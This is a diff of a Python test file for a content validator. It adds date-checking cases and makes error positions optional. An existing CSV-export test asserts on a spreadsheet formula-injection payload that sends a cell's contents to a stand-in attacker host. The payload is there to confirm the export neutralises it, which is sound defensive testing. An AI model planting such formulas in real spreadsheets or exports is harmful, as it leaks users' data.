@@ -8,7 +8,9 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import os
+import re
 import resource
 import subprocess
 import sys
@@ -89,6 +91,13 @@ def _outside_link(project):
     (project / "content" / "publications" / "linked.yml").symlink_to(outside)
 
 
+def _edit_toolkit(edit):
+    def write(project):
+        source = project / "toolkits" / KIT / "toolkit.yml"
+        source.write_text(edit(source.read_text(encoding="utf-8")), encoding="utf-8")
+    return write
+
+
 def _svg(text: bytes):
     return _raw(f"toolkits/{KIT}/layouts/poster-a4.svg", text)
 
@@ -115,6 +124,8 @@ CASES = {
     "year-0000": (*record(VALID_RECORD.replace("date: 2020-05-01", "date: '0000'"), needle="'0000'"), "date: 0000: year 0000 is before 1800"),
     "year-0999": (*record(VALID_RECORD.replace("date: 2020-05-01", "date: 0999"), needle="0999"), "date: 0999: year 0999 is before 1800"),
     "period-ends-before-it-starts": (*record(PRACTICE, "content/practices/practice.yml", needle="2010"), "period: it ends (2010) before it starts (2020)"),
+    "period-start-not-a-date": (*record(PRACTICE.replace("start: 2020", "start: {year: 2020}").replace("end: 2010", "end: 2020-02-30"), "content/practices/practice.yml", needle="{year"), "period.start: expected a date or a year, found a mapping of fields"),
+    "toolkit-date-february-30": (_edit_toolkit(lambda text: re.sub(r"^date: .*$", "date: 2025-02-30", text, flags=re.M)), f"toolkits/{KIT}/toolkit.yml", None, "date: 2025-02-30: February 2025 has 28 days"),
     # 4. what used to be tracebacks
     "tag-on-a-scalar": (*record(SCALAR_TAG, needle="!custom"), "tags such as '!custom' are not allowed"),
     "folder-named-yml": (_folder("content/practices/x.yml"), "content/practices/x.yml", (1, 1), "this is a folder"),
@@ -146,12 +157,13 @@ CASES = {
 
 @pytest.mark.parametrize("case", CASES)
 def test_bad_file_is_refused_with_file_line_and_column(project, case):
-    write, path, (line, column), message = CASES[case]
+    write, path, position, message = CASES[case]
+    line, column = position or (None, None)
     write(project)
     result = check(project)
     assert result.returncode == 1, f"exit {result.returncode}: {result.stdout}{result.stderr[-2000:]}"
     assert "Traceback" not in result.stderr, result.stderr[-3000:]
-    expected = f"{path}:{line}:{column}: "
+    expected = f"{path}:{line}:{column}: " if line else f"{path}:"
     found = [row for row in result.stderr.splitlines() if row.startswith(expected) and message in row]
     assert found, f"expected a line starting {expected!r} saying {message!r}; got:\n{result.stderr[:3000]}"
     assert all(len(row) < 1000 for row in result.stderr.splitlines()), "a message quotes a whole value"
@@ -183,7 +195,6 @@ def test_formula_cells_are_text_in_records_csv(project, tmp_path):
     assert row["publisher"] == "'@SUM(1+1)"
     assert row["keywords_es"] == "'+34 600; -1; \tTAB"
     assert row["title_en"] == "Test report"  # other cells stay as written
-    import json
     exported = json.loads((site / "data" / "records.json").read_text(encoding="utf-8"))["records"][0]
     assert exported["title"]["es"] == '=HYPERLINK("https://evil.example/?"&A1,"Click")'  # JSON stays exact
     assert exported["publisher"] == "@SUM(1+1)"
